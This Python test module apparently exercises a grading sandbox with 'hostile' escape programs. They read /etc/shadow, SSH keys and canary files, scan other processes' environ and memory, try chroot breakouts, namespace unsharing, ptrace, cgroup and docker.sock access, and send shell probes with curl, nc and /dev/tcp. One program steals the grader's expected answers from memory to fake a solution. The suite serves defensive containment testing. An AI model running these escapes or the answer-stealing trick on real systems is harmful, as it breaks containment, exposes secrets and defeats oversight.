"""Escape: read what is outside the sandbox, write outside its scratch, reach the host's network.

Each program prints what it finds; the host then looks for its secrets (canary file
contents, the secret environment value, its root-only files) in everything that came
back, for the escape marker a program prints when it got somewhere it must not, for new
files named with the session token, and at its own listeners for any connection.
"""

from __future__ import annotations

from reward_core.sandbox_contract import TestStyle
from tests.integration.hostile.model import Category, HostileProgram

E = Category.ESCAPE

PROGRAMS: list[HostileProgram] = [
    HostileProgram(
        "read_etc_shadow", E, problem="canary", description="read root-only files of the host",
        code='''
            for p in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.bash_history", "/root/.ssh/id_rsa",
                      "/root/.ssh/authorized_keys", "/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_rsa_key",
                      "/root/.docker/config.json", "/root/.netrc", "/root/.pypirc"):
                _show(p, _read(p))
        '''),
    HostileProgram(
        "read_canary_files", E, problem="canary", description="read the host's canary files in /tmp, the repo and $HOME",
        code='''
            for p in ("@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"):
                data = _read(p)
                if data is not None:
                    _esc("read " + p)
                    print(data.decode(), flush=True)
                elif os.path.exists(p):
                    _esc("sees " + p)
        '''),
    HostileProgram(
        "list_host_directories", E, description="list /tmp, the repo, $HOME and /root looking for the canaries",
        code='''
            for d in ("/tmp", "@@REPO@@", "@@HOME@@", "/root", "/home", "@@CANARY_DIR@@", "/var/tmp", "/dev/shm"):
                try:
                    names = os.listdir(d)
                except Exception as e:
                    print(d, "->", type(e).__name__)
                    continue
                print(d, sorted(names)[:50])
                if any("@@TOKEN@@" in n for n in names):
                    _esc("listed " + d)
            for root in ("@@REPO@@", "/work", "/work/main"):
                if os.path.exists(os.path.join(root, "pyproject.toml")) or os.path.exists(os.path.join(root, ".git")):
                    _esc("sees the host repository at " + root)
        '''),
    HostileProgram(
        "env_secret", E, description="read the host's secret environment variable",
        code='''
            for k, v in sorted(os.environ.items()):
                print(k, "=", v)
            if "@@ENV_NAME@@" in os.environ:
                _esc("env " + os.environ["@@ENV_NAME@@"])
            _show("self environ", _read("/proc/self/environ"))
        '''),
    HostileProgram(
        "proc_environ_cmdline_scan", E, description="read environ/cmdline of every visible process",
        code='''
            for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
                for what in ("environ", "cmdline"):
                    data = _read(f"/proc/{pid}/{what}")
                    _show(f"{pid} {what}:", data)
                    if data and b"@@ENV_NAME@@" in data:
                        _esc(f"environ of {pid}")
        '''),
    HostileProgram(
        "proc_root_of_other_processes", E, problem="canary",
        description="reach the host filesystem through /proc/1/root and /proc/<pid>/root, /proc/<ppid>/cwd",
        code='''
            pids = sorted({p for p in os.listdir("/proc") if p.isdigit()} | {"1", str(os.getppid())})
            for pid in pids:
                for link in ("root", "cwd"):
                    base = f"/proc/{pid}/{link}"
                    for p in ("@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"):
                        data = _read(base + p)
                        if data is not None:
                            _esc(f"{base}{p}")
                            print(data.decode(), flush=True)
                    try:
                        names = os.listdir(base + "/tmp")
                        if any("@@TOKEN@@" in n for n in names):
                            _esc(f"{base}/tmp lists the canary")
                    except Exception:
                        pass
        '''),
    HostileProgram(
        "proc_mem_of_other_processes", E, style=TestStyle.HUMANEVAL,
        description="read /proc/<pid>/mem of every other visible process for the secrets and the check code",
        code='''
            import re
            found = []
            def scan(pid):
                try:
                    maps = open(f"/proc/{pid}/maps").read().splitlines()
                    mem = open(f"/proc/{pid}/mem", "rb", 0)
                except Exception as e:
                    return
                budget = 64 << 20
                for line in maps:
                    addr, perms = line.split()[:2]
                    if "r" not in perms:
                        continue
                    lo, hi = (int(x, 16) for x in addr.split("-"))
                    if hi - lo > budget:
                        continue
                    try:
                        mem.seek(lo)
                        chunk = mem.read(hi - lo)
                    except Exception:
                        continue
                    budget -= hi - lo
                    for m in re.finditer(rb"HOSTILE-SECRET-[A-Za-z0-9-]+|candidate\\(\\s*-?\\d+\\s*\\)\\s*==\\s*-?\\d+", chunk):
                        found.append((pid, m.group()))
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) != os.getpid():
                    scan(pid)
            for pid, blob in found:
                _esc(f"memory of {pid}")
                print(blob.decode("utf-8", "replace"), flush=True)
            _ANSWERS = {}
            for _, blob in found:
                m = re.match(rb"candidate\\(\\s*(-?\\d+)\\s*\\)\\s*==\\s*(-?\\d+)", blob)
                if m:
                    _ANSWERS[int(m.group(1))] = int(m.group(2))
            def solve(x):
                return _ANSWERS.get(x, 0)
        '''),
    HostileProgram(
        "write_outside_scratch", E, description="create files in /tmp, the repo, $HOME, /etc, /, /dev/shm, /var/tmp",
        code='''
            targets = ["/tmp", "@@REPO@@", "@@HOME@@", "/etc", "/", "/dev/shm", "/var/tmp", "/usr/local/bin",
                       "@@CANARY_DIR@@", "/run", "/root"]
            for d in targets:
                p = os.path.join(d, "hostile-@@TOKEN@@-write")
                try:
                    with open(p, "w") as f:
                        f.write("written by a sandboxed program")
                    print("wrote", p)
                except Exception as e:
                    print("cannot write", p, type(e).__name__)
                try:
                    os.mkdir(os.path.join(d, "hostile-@@TOKEN@@-dir"))
                except Exception:
                    pass
            for p in ("@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"):
                for mode in ("w", "a", "r+"):
                    try:
                        with open(p, mode) as f:
                            f.write("overwritten")
                        _esc("opened " + p + " for " + mode)
                    except Exception:
                        pass
        '''),
    HostileProgram(
        "delete_rename_chmod_canaries", E, description="remove, rename, truncate, chmod, touch the canaries",
        code='''
            import shutil
            for p in ("@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"):
                for op in (lambda: os.utime(p, (0, 0)), lambda: os.chmod(p, 0o777), lambda: os.truncate(p, 0),
                           lambda: os.rename(p, p + ".moved"), lambda: os.unlink(p), lambda: os.chown(p, 65534, 65534)):
                    try:
                        op()
                        _esc("modified " + p)
                    except Exception:
                        pass
            shutil.rmtree("@@CANARY_DIR@@", ignore_errors=True)
            os.system("rm -rf @@CANARY_DIR@@ @@CANARY_REPO@@ @@CANARY_HOME@@ 2>/dev/null")
        '''),
    HostileProgram(
        "mount_and_unshare", E, problem="canary",
        description="unshare a user+mount namespace, mount tmpfs/proc/bind mounts, setns into /proc/1/ns/*",
        code='''
            libc = _libc()
            CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000
            uid, gid = os.getuid(), os.getgid()
            r = libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
            print("unshare(user|mnt) ->", r, ctypes.get_errno())
            if r == 0:
                for f, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1"),
                                ("/proc/self/gid_map", f"0 {gid} 1")):
                    try:
                        open(f, "w").write(text)
                    except Exception as e:
                        print(f, type(e).__name__)
            for src, dst, fstype, flags in (("none", "/tmp", b"tmpfs", 0), ("proc", "/proc", b"proc", 0),
                                            ("/", "/tmp", None, 4096 | 16384), ("/dev/sda1", "/mnt", b"ext4", 0),
                                            ("/dev/vda", "/mnt", b"ext4", 0), ("/dev/vda1", "/mnt", b"ext4", 0)):
                rc = libc.mount(src.encode(), dst.encode(), fstype, flags, None)
                print("mount", src, dst, rc, ctypes.get_errno())
                if rc == 0 and src.startswith("/dev/"):
                    _esc("mounted a block device " + src)
            for ns in ("mnt", "pid", "net", "user", "ipc", "uts", "cgroup"):
                try:
                    fd = os.open(f"/proc/1/ns/{ns}", os.O_RDONLY)
                    rc = libc.setns(fd, 0)
                    print("setns", ns, rc, ctypes.get_errno())
                except Exception as e:
                    print("setns", ns, type(e).__name__)
            for p in ("@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@", "/tmp/" + "@@CANARY_TMP@@"):
                data = _read(p)
                if data:
                    _esc("read " + p)
                    print(data.decode(), flush=True)
        '''),
    HostileProgram(
        "setuid_and_setuid_binaries", E, problem="canary",
        description="become root: setuid/setresuid/setgroups, capabilities, sudo/su/mount setuid binaries",
        code='''
            print("uid", os.getuid(), os.geteuid(), "gid", os.getgid(), "groups", os.getgroups())
            if os.geteuid() == 0:
                _esc("untrusted code runs as root (euid 0)")
            caps = [l for l in open("/proc/self/status").read().splitlines() if l.startswith("Cap")]
            print(caps)
            if any(l.startswith("CapEff") and int(l.split()[1], 16) != 0 for l in caps):
                _esc("untrusted code holds capabilities: " + " ".join(caps))
            for op in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0),
                       lambda: os.setgroups([0]), lambda: os.seteuid(0)):
                try:
                    op()
                    _esc("became root")
                except Exception as e:
                    pass
            for cmd in (["sudo", "-n", "cat", "@@CANARY_TMP@@"], ["su", "-c", "cat @@CANARY_TMP@@"],
                        ["pkexec", "cat", "@@CANARY_TMP@@"], ["mount", "-t", "tmpfs", "none", "/mnt"],
                        ["newgrp", "root"], ["unshare", "-r", "cat", "@@CANARY_TMP@@"]):
                status, out = _run(cmd, timeout=0.5)
                print(cmd[0], status, out[:300])
            if os.geteuid() == 0 and _read("@@CANARY_TMP@@"):
                _esc("root and the canary")
        '''),
    HostileProgram(
        "chroot_breakout", E, problem="canary",
        description="the classic chroot escape (chroot into a subdir, chdir .. past the root), also in a new userns",
        code='''
            libc = _libc()
            def attempt(tag):
                try:
                    os.makedirs("jail", exist_ok=True)
                    fd = os.open(".", os.O_RDONLY)
                    os.chroot("jail")
                    os.fchdir(fd)
                    for _ in range(64):
                        os.chdir("..")
                    os.chroot(".")
                    print(tag, "chroot breakout ran, root now lists", os.listdir("/")[:20])
                except Exception as e:
                    print(tag, type(e).__name__, e)
                for p in ("@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"):
                    data = _read(p)
                    if data:
                        _esc(tag + " read " + p)
                        print(data.decode(), flush=True)
            attempt("plain")
            if libc.unshare(0x10000000) == 0:     # CLONE_NEWUSER: full capabilities in the new namespace
                attempt("userns")
        '''),
    HostileProgram(
        "ptrace_and_process_vm_readv", E, description="PTRACE_ATTACH / process_vm_readv every process that is not ours",
        code='''
            libc = _libc()
            mine = {os.getpid()}
            for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()) + [os.getppid()]:
                if pid in mine or pid <= 0:
                    continue
                rc = libc.ptrace(16, pid, None, None)     # PTRACE_ATTACH
                err = ctypes.get_errno()
                print("ptrace attach", pid, rc, err)
                if rc == 0:
                    _esc(f"ptrace attached to {pid}")
                    libc.ptrace(17, pid, None, None)      # PTRACE_DETACH
                buf = ctypes.create_string_buffer(64)
                class iovec(ctypes.Structure):
                    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
                local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
                remote = iovec(0x400000, 64)
                n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
                if n > 0:
                    _esc(f"process_vm_readv read {n} bytes of {pid}")
            try:
                pidfd = os.pidfd_open(os.getppid())
                print("pidfd of parent", pidfd)
                signal.pidfd_send_signal(pidfd, 0)
                _esc("may signal its parent through a pidfd")
            except Exception as e:
                print("pidfd", type(e).__name__)
        '''),
    HostileProgram(
        "symlink_and_hardlink_tricks", E, problem="canary",
        description="symlinks/hardlinks from scratch to host paths, ../ traversal, /proc/self/cwd/..; plant symlinks for host cleanup",
        code='''
            links = {"l_canary": "@@CANARY_TMP@@", "l_proc1": "/proc/1/root@@CANARY_TMP@@", "l_root": "/",
                     "l_repo": "@@REPO@@", "l_home": "@@HOME@@", "l_canary_dir": "@@CANARY_DIR@@"}
            for name, target in links.items():
                try:
                    os.symlink(target, name)
                except Exception as e:
                    print("symlink", name, type(e).__name__)
            for p in ["l_canary", "l_proc1", "l_root@@CANARY_TMP@@", "l_canary_dir/secret.txt",
                      "../" * 12 + "@@CANARY_TMP@@".lstrip("/"), "/proc/self/cwd/../../../../@@CANARY_TMP@@",
                      "/proc/self/root@@CANARY_TMP@@"]:
                data = _read(p)
                if data:
                    _esc("read through " + p)
                    print(data.decode(), flush=True)
            try:
                os.link("@@CANARY_TMP@@", "hard")
                _esc("hardlinked the canary")
            except Exception as e:
                print("link", type(e).__name__)
            # Leave symlinks into the host behind in case the host cleans scratch up naively.
            for d in ("keep", "keep/deeper"):
                os.makedirs(d, exist_ok=True)
            os.symlink("@@CANARY_DIR@@", "keep/deeper/cleanup_me")
            os.symlink("@@CANARY_REPO@@", "keep/cleanup_file")
        '''),
    HostileProgram(
        "network_tcp_to_host", E,
        description="TCP connect to the host's loopback/::1/0.0.0.0 listeners, its other addresses, the docker bridge, the gateway",
        code='''
            def gateways():
                out = []
                try:
                    for line in open("/proc/net/route").read().splitlines()[1:]:
                        gw = int(line.split()[2], 16)
                        if gw:
                            out.append(socket.inet_ntoa(gw.to_bytes(4, "little")))
                except Exception:
                    pass
                return out
            targets = [("127.0.0.1", @@TCP_PORT@@), ("localhost", @@TCP_PORT@@), ("127.0.0.1", @@TCP_ANY_PORT@@),
                       ("::1", @@TCP6_PORT@@), ("0.0.0.0", @@TCP_ANY_PORT@@), ("172.17.0.1", @@TCP_ANY_PORT@@),
                       ("host.docker.internal", @@TCP_ANY_PORT@@)]
            targets += [(ip, @@TCP_ANY_PORT@@) for ip in @@HOST_IPS@@ + gateways()]
            for host, port in targets:
                try:
                    s = _tcp(host, port)
                    s.sendall(b"hello from the sandbox")
                    _esc(f"connected to {host}:{port}")
                    s.close()
                except Exception as e:
                    print(host, port, type(e).__name__)
        '''),
    HostileProgram(
        "network_dns_and_internet", E, description="resolve names, query DNS servers, reach the internet",
        code='''
            print(_read("/etc/resolv.conf"), _read("/etc/hosts"))
            for name in ("pypi.org", "deb.debian.org", "example.com"):
                try:
                    infos = socket.getaddrinfo(name.encode(), 443, proto=socket.IPPROTO_TCP)
                    addrs = sorted({i[4][0] for i in infos})
                    print(name, addrs)
                    if any(not a.startswith(("127.", "::1")) for a in addrs):
                        _esc("resolved " + name)
                except Exception as e:
                    print(name, type(e).__name__)
            query = bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001")
            for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53", "127.0.0.11", "172.17.0.1"):
                try:
                    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    u.settimeout(0.3)
                    u.sendto(query, (server, 53))
                    data = u.recv(512)
                    _esc(f"DNS answer from {server}")
                except Exception as e:
                    print(server, type(e).__name__)
            for host in ("151.101.0.223", "1.1.1.1"):
                try:
                    _tcp(host, 443).close()
                    _esc("reached " + host)
                except Exception as e:
                    print(host, type(e).__name__)
        '''),
    HostileProgram(
        "network_udp_to_host", E, description="UDP datagrams to the host's socket on loopback, its addresses, broadcast",
        code='''
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                u.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            except Exception:
                pass
            for host in ["127.0.0.1", "255.255.255.255", "172.17.0.1", "172.17.255.255"] + @@HOST_IPS@@:
                for _ in range(3):
                    try:
                        u.sendto(b"udp from the sandbox", (host, @@UDP_PORT@@))
                    except Exception as e:
                        print(host, type(e).__name__)
                        break
        '''),
    HostileProgram(
        "network_raw_packet_netlink", E,
        description="raw and packet sockets (need CAP_NET_RAW), interfaces other than lo, netlink route dump",
        code='''
            for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                                    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
                                    (socket.AF_PACKET, socket.SOCK_RAW, 0x0300)):
                try:
                    s = socket.socket(fam, typ, proto)
                    _esc(f"raw socket {fam}/{typ}/{proto}")
                    s.close()
                except Exception as e:
                    print(fam, typ, proto, type(e).__name__)
            try:
                ifaces = os.listdir("/sys/class/net")
            except Exception:
                ifaces = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
            print("interfaces", ifaces)
            if any(i != "lo" for i in ifaces):
                _esc("network interfaces other than lo: " + ",".join(ifaces))
        '''),
    HostileProgram(
        "unix_sockets_of_the_host", E,
        description="the host's abstract unix socket, the docker/containerd/dbus/systemd control sockets",
        code='''
            for addr in ("\\0@@ABSTRACT@@", "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                         "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify",
                         "/var/run/docker/containerd/containerd.sock", "/tmp/.X11-unix/X0"):
                for typ in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    s = socket.socket(socket.AF_UNIX, typ)
                    try:
                        s.settimeout(0.3)
                        s.connect(addr)
                        if typ == socket.SOCK_STREAM:
                            s.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
                        _esc("connected to unix socket " + repr(addr))
                    except Exception as e:
                        print(repr(addr), typ, type(e).__name__)
                    finally:
                        s.close()
        '''),
    HostileProgram(
        "kernel_and_device_interfaces", E,
        description="open kernel knobs for writing (core_pattern, sysrq, cgroup release_agent), raw memory and disks for reading",
        code='''
            # Opening only: nothing is ever written, even if an open succeeds.
            agents = [os.path.join(d, "release_agent") for d in _glob("/sys/fs/cgroup")]
            for p in ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe",
                      "/sys/kernel/uevent_helper", "/proc/sys/vm/drop_caches"] + agents:
                try:
                    fd = os.open(p, os.O_WRONLY)
                    os.close(fd)
                    _esc("may write " + p)
                except Exception as e:
                    print(p, type(e).__name__)
            disks = [p for p in _glob("/dev") if os.path.basename(p).startswith(("sd", "vd", "hd", "nvme", "xvd", "loop", "dm-"))]
            for p in ["/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg"] + disks:
                try:
                    fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
                    data = os.read(fd, 16)
                    os.close(fd)
                    _esc(f"read {p}")
                except Exception as e:
                    print(p, type(e).__name__)
            print(sorted(os.listdir("/dev")))
        '''),
    HostileProgram(
        "cgroup_escape", E, description="create cgroups, move itself to the root cgroup, raise its own limits",
        code='''
            print(_read("/proc/self/cgroup"))
            for base in ["/sys/fs/cgroup"] + _glob("/sys/fs/cgroup"):
                try:
                    os.mkdir(os.path.join(base, "hostile-@@TOKEN@@"))
                    _esc("created a cgroup under " + base)
                except Exception:
                    pass
                for f in ("cgroup.procs", "tasks"):
                    try:
                        with open(os.path.join(base, f), "w") as fh:
                            fh.write(str(os.getpid()))
                        _esc("moved itself into " + base)
                    except Exception:
                        pass
            limits = []
            for dirpath, dirs, files in os.walk("/sys/fs/cgroup"):
                limits += [os.path.join(dirpath, f) for f in files if f in ("memory.limit_in_bytes", "memory.max")]
            for f in limits[:100]:
                try:
                    with open(f, "w") as fh:
                        fh.write("max" if f.endswith("max") else "-1")
                    _esc("raised " + f)
                except Exception:
                    pass
        '''),
    HostileProgram(
        "subprocess_shell_tools", E, problem="canary",
        description="the same through a shell: cat, env, id, ls, curl/nc/bash /dev/tcp to the host listener",
        code='''
            script = (
                "id; env; cat @@CANARY_TMP@@ @@CANARY_REPO@@ @@CANARY_HOME@@ /etc/shadow; ls -la /tmp @@HOME@@; "
                "(exec 3<>/dev/tcp/127.0.0.1/@@TCP_PORT@@ && echo hi >&3) 2>/dev/null; "
                "curl -s -m 1 http://127.0.0.1:@@TCP_PORT@@/ ; nc -w 1 127.0.0.1 @@TCP_PORT@@ </dev/null; "
                "wget -q -T 1 -O- http://127.0.0.1:@@TCP_PORT@@/; python3 -c 'import os; print(os.environ)'"
            )
            for shell in ("/bin/bash", "/bin/sh"):
                status, out = _run([shell, "-c", script], timeout=1.5)
                sys.stdout.write(out.decode("utf-8", "replace")[:20000])
                print(shell, "status", status)
        '''),
    HostileProgram(
        "cpp_escape", E, language="cpp", problem="canary",
        description="C++: read the canaries and /etc/shadow, dump environ, connect/send to the host listeners, write /tmp",
        code=r'''
            #include <arpa/inet.h>
            #include <netinet/in.h>
            #include <sys/socket.h>
            #include <sys/un.h>
            #include <unistd.h>
            #include <cstdio>
            #include <cstdlib>
            #include <cstring>
            #include <fstream>
            #include <iostream>
            #include <sstream>
            extern char **environ;
            static void dump(const char* p) {
                std::ifstream f(p);
                if (f) { std::stringstream ss; ss << f.rdbuf(); std::cout << p << ": " << ss.str() << "\n"; }
            }
            int main() {
                dump("@@CANARY_TMP@@"); dump("@@CANARY_REPO@@"); dump("@@CANARY_HOME@@"); dump("/etc/shadow");
                for (char** e = environ; *e; ++e) std::cout << *e << "\n";
                const char* s = getenv("@@ENV_NAME@@");
                if (s) std::cout << "ESC" "APED:env " << s << "\n";
                sockaddr_in a{}; a.sin_family = AF_INET; inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
                int ports[] = {@@TCP_PORT@@, @@TCP_ANY_PORT@@};
                for (int port : ports) {
                    int fd = socket(AF_INET, SOCK_STREAM, 0); a.sin_port = htons(port);
                    if (connect(fd, (sockaddr*)&a, sizeof a) == 0) std::cout << "ESC" "APED:tcp " << port << "\n";
                    close(fd);
                }
                int u = socket(AF_INET, SOCK_DGRAM, 0); a.sin_port = htons(@@UDP_PORT@@);
                sendto(u, "x", 1, 0, (sockaddr*)&a, sizeof a);
                int un = socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un ua{}; ua.sun_family = AF_UNIX;
                const char name[] = "@@ABSTRACT@@"; memcpy(ua.sun_path + 1, name, sizeof name - 1);
                if (connect(un, (sockaddr*)&ua, sizeof(sa_family_t) + sizeof name) == 0) std::cout << "ESC" "APED:unix\n";
                FILE* w = fopen("/tmp/hostile-@@TOKEN@@-cpp", "w"); if (w) { fputs("x", w); fclose(w); }
                w = fopen("@@CANARY_TMP@@", "a"); if (w) { std::cout << "ESC" "APED:canary writable\n"; fclose(w); }
                std::cout << "uid " << getuid() << " euid " << geteuid() << "\n";
                if (geteuid() == 0) std::cout << "ESC" "APED:root\n";
                return 0;
            }
        '''),
    HostileProgram(
        "dev_shm_and_ipc_of_the_host", E,
        description="look for the host's POSIX shm, SysV IPC and abstract sockets (other namespaces' state)",
        code='''
            print("shm", _read("/proc/sysvipc/shm"), "msg", _read("/proc/sysvipc/msg"))
            unix = _read("/proc/net/unix") or b""
            if b"@@ABSTRACT@@" in unix:
                _esc("sees the host's abstract socket in /proc/net/unix")
            tcp = (_read("/proc/net/tcp") or b"") + (_read("/proc/net/tcp6") or b"")
            for port in (@@TCP_PORT@@, @@TCP_ANY_PORT@@, @@TCP6_PORT@@):
                if (":%04X " % port).encode() in tcp:
                    _esc(f"sees the host's listener on port {port}")
        '''),
]

#: Check code that attacks from the supervisor (the trusted process that runs it): fork, threads,
#: user namespaces, root, and any way to write a cgroup file -- by path or through a descriptor.
#: It never prints (the supervisor's stdout is the host protocol): escapes go into an assert message.
HOSTILE_CHECK = r'''
    import ctypes, os
    _FOUND = []
    def _attempt(what, fn):
        try:
            if fn() is not False:
                _FOUND.append(what)
        except BaseException:
            pass
    def _fork():
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
    def _thread():
        import _thread
        _thread.start_new_thread(lambda: None, ())
    def _userns():
        libc = ctypes.CDLL(None, use_errno=True)
        return libc.unshare(0x10000000) == 0
    _attempt("the check code forked a process", _fork)
    _attempt("the check code started a thread", _thread)
    _attempt("the check code created a user namespace", _userns)
    _attempt("the check code runs as root", lambda: os.geteuid() == 0 or os.getuid() == 0)
    _attempt("the check code holds capabilities other than CAP_KILL", lambda: any(
        l.startswith("CapEff:") and int(l.split()[1], 16) & ~(1 << 5)
        for l in open("/proc/self/status").read().splitlines()))
    _CGROUP_FILES = ("cgroup.procs", "tasks", "pids.max", "memory.max", "memory.limit_in_bytes",
                     "memory.memsw.limit_in_bytes", "memory.high", "cgroup.subtree_control", "release_agent")
    for _base in ("/sys/fs/cgroup", "/run/sandbox", "/proc/1/root/sys/fs/cgroup", "/proc/3/root/run/sandbox"):
        for _dir, _subdirs, _files in os.walk(_base):
            for _name in _files:
                if _name in _CGROUP_FILES:
                    _path = os.path.join(_dir, _name)
                    _attempt("the check code may write " + _path, lambda p=_path: os.close(os.open(p, os.O_WRONLY)))
    for _fd in range(3, 1024):
        try:
            _target = os.readlink(f"/proc/self/fd/{_fd}")
            _flags = int(open(f"/proc/self/fdinfo/{_fd}").read().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if _flags & 3 and ("cgroup" in _target or _target.rsplit("/", 1)[-1] in _CGROUP_FILES):
            _FOUND.append(f"the check code holds a writable descriptor {_fd} -> {_target}")
    def check(candidate):
        assert candidate(2, 3) == 5
        assert not _FOUND, "ESC" + "APED:" + "; ".join(_FOUND)
        assert len(_FOUND) < 0, "the check code found no way out of the supervisor"   # a case: never passes
'''

PROGRAMS += [
    HostileProgram(
        "userns_unshare", E, problem="canary",
        description="create a user namespace: unshare, raw clone and clone3 with CLONE_NEWUSER, unshare(1)",
        code='''
            libc = _libc()
            CLONE_NEWUSER, CLONE_NEWNS, SIGCHLD = 0x10000000, 0x20000, 17
            print("max_user_namespaces", _read("/proc/sys/user/max_user_namespaces"))
            for flags in (CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS):
                r = libc.unshare(flags)
                print("unshare", hex(flags), r, ctypes.get_errno())
                if r == 0:
                    _esc(f"unshare({hex(flags)}) made a user namespace: uid_map {_read('/proc/self/uid_map')}")
            libc.syscall.restype = ctypes.c_long
            pid = libc.syscall(56, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)       # clone (x86_64)
            if pid == 0:
                os._exit(0)
            if pid > 0:
                os.waitpid(pid, 0)
                _esc("clone(CLONE_NEWUSER) made a child in a new user namespace")
            args = (ctypes.c_uint64 * 11)(CLONE_NEWUSER, 0, 0, 0, SIGCHLD)   # struct clone_args
            pid = libc.syscall(435, ctypes.byref(args), 64)                   # clone3
            if pid == 0:
                os._exit(0)
            if pid > 0:
                os.waitpid(pid, 0)
                _esc("clone3(CLONE_NEWUSER) made a child in a new user namespace")
            status, out = _run(["unshare", "-U", "-r", "id", "-u"], timeout=1.0)
            print("unshare(1)", status, out)
            if status == 0 and out.strip() == b"0":
                _esc("unshare -U -r became uid 0 of a user namespace")
        '''),
    HostileProgram(
        "userns_raw_syscalls_cpp", E, language="cpp", problem="canary",
        description="C++: CLONE_NEWUSER through unshare, clone, clone3, the i386 ABI (int 0x80) and x32 numbers",
        code=r'''
            #include <sched.h>
            #include <signal.h>
            #include <sys/syscall.h>
            #include <sys/wait.h>
            #include <unistd.h>
            #include <cerrno>
            #include <cstdio>
            #include <cstring>
            static void child_or_escape(long pid, const char* what) {
                if (pid == 0) _exit(0);
                if (pid > 0) { waitpid((pid_t)pid, nullptr, 0); printf("ESC" "APED:%s\n", what); }
            }
            int main() {
                long r = syscall(SYS_unshare, CLONE_NEWUSER);
                printf("unshare %ld errno %d\n", r, errno);
                if (r == 0) puts("ESC" "APED:unshare(CLONE_NEWUSER)");
                fflush(stdout);
                child_or_escape(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0), "clone(CLONE_NEWUSER)");
                unsigned long long args[11];
                memset(args, 0, sizeof args);
                args[0] = CLONE_NEWUSER; args[4] = SIGCHLD;
                child_or_escape(syscall(435, args, 64), "clone3(CLONE_NEWUSER)");
            #if defined(__x86_64__)
                int r32;                                                                  // i386 unshare
                asm volatile("int $0x80" : "=a"(r32) : "a"(310), "b"(CLONE_NEWUSER)
                             : "memory", "r8", "r9", "r10", "r11");
                printf("i386 unshare %d\n", r32);
                if (r32 == 0) puts("ESC" "APED:i386 unshare(CLONE_NEWUSER)");
                long rx = syscall(SYS_unshare | 0x40000000L, CLONE_NEWUSER);                               // x32
                printf("x32 unshare %ld errno %d\n", rx, errno);
                if (rx == 0) puts("ESC" "APED:x32 unshare(CLONE_NEWUSER)");
            #endif
                return 0;
            }
        '''),
    HostileProgram(
        "host_root_and_checkout_invisible", E,
        description="list the host's /root and look for the checkout's path in mounts, maps and the interpreter",
        code='''
            for d in ("/root", "/home", "/work"):
                try:
                    names = os.listdir(d)
                except OSError as e:
                    print(d, "->", type(e).__name__)
                    continue
                print(d, names[:20])
                if names:
                    _esc(f"lists {d}: {names[:10]}")
            for p in ("@@REPO@@", "@@REPO@@/sandbox/runtime", "/root/.pyenv", "@@HOME@@/.pyenv"):
                if os.path.exists(p):
                    _esc("sees " + p)
            for f in ("/proc/self/mountinfo", "/proc/self/maps", "/proc/self/environ", "/proc/self/cmdline",
                      "/proc/1/mountinfo", "/proc/1/cmdline"):
                data = _read(f) or b""
                if b"@@REPO@@" in data:
                    _esc(f"{f} names the checkout")
                if f.endswith("maps") and b" /root/" in data:
                    _esc("maps files from the host's /root")
            where = " ".join([sys.executable, sys.prefix, sys.base_prefix, os.getcwd(), os.__file__] + sys.path)
            print("interpreter:", where)
            if "@@REPO@@" in where or "/root/" in where:
                _esc("the interpreter lives at a host path: " + where)
        '''),
    HostileProgram(
        "check_code_forks_and_writes_cgroups", E, style=TestStyle.HUMANEVAL, problem="add",
        description="check code (run by the trusted supervisor) forks, starts threads, unshares a user "
                    "namespace, looks for root and for cgroup files it could write",
        code='''
            def add(a, b):
                return a + b
        ''', check=HOSTILE_CHECK),
]
